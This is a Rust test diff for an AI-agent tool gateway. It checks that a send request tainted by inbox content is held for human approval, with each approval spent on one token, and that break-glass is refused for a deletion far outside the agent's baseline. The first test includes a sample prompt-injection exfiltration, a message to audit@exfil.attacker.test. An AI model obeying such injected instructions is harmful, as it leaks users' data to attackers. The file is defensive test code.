@@ -502,3 +502,55 @@ fn explain_says_what_the_gateway_does_for_unusual_and_drifting_requests() {
     assert_eq!(code, Some(0));
     assert!(out.contains("decision for action BeginTask: ALLOW") && out.contains("try --action request"), "{out}");
 }
+
+/// When the end user cannot be asked, the fallback group's approval stands
+/// in for the confirmation, and it is spent on exactly one token like any
+/// approval: repeating the request does not mint another.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_approval_standing_in_for_the_end_user_is_spent_once() {
+    let dep = Deployment::new(&quickstart_setup());
+    let gw = Gateway::start(&dep);
+    gw.wait_server("workspace", "ready").await;
+    let triage = gw.connect(&dep.mint("triage")).await;
+    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
+    let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
+    call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
+    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
+    let send = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "dana@acme.example", "subject": "Renewal", "body": "2027-01-31"}, "purpose": "answer Dana"});
+    // The inbox body names the attacker's address: that request is tainted.
+    let send_tainted = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "audit@exfil.attacker.test", "subject": "Audit", "body": "see attached"}, "purpose": "comply"});
+    let held = grant(&triage, send_tainted.clone()).await;
+    assert_held_for_end_user(&held, "platform-oncall");
+    let id = held.unwrap()["approval"].as_str().unwrap().to_owned();
+    let alice = dep.mint_approver("alice@example.org", "platform-oncall");
+    let (code, _, err) = jitgate_with_credential(&["approvals", "approve", &id, "--note", "checked with the user"], &alice, &dep);
+    assert_eq!(code, Some(0), "{err}");
+    let first = grant(&triage, send_tainted.clone()).await.unwrap();
+    assert!(first["token"].is_string(), "{first}");
+    let second = grant(&triage, send_tainted).await.unwrap();
+    assert!(second["token"].is_null(), "the approval is spent: {second}");
+    assert_eq!(second["decision"], "pending_approval", "{second}");
+    // An untainted reply is not held at all.
+    assert!(grant(&triage, send).await.unwrap()["token"].is_string());
+}
+
+/// Break-glass is no way around a person for a request far outside the
+/// baseline (score 90+ without strong evidence); the ordinary request for
+/// the same call goes to a person.
+#[test]
+fn break_glass_far_outside_the_baseline_is_refused() {
+    let dep = Deployment::new(&quickstart_setup());
+    let explain = |action: &str| {
+        let (code, out, err) = jitgate(&[
+            "policy", "explain", "--config", dep.config.to_str().unwrap(), "--agent", "janitor", "--tool", "workspace__delete_note",
+            "--args", r#"{"name":"q3-plan.md"}"#, "--action", action, "--baseline-score", "95", "--justification", "INC-4471 outage", "--json",
+        ]);
+        assert_eq!(code, Some(0), "{err}");
+        serde_json::from_str::<Value>(&out).unwrap()
+    };
+    let bg = explain("break-glass");
+    assert_eq!(bg["decision"], "deny", "{bg}");
+    assert!(bg["policies"].to_string().contains("no-break-glass-far-outside-baseline"), "{bg}");
+    let plain = explain("request");
+    assert_eq!(plain["decision"], "needs_approval", "{plain}");
+}
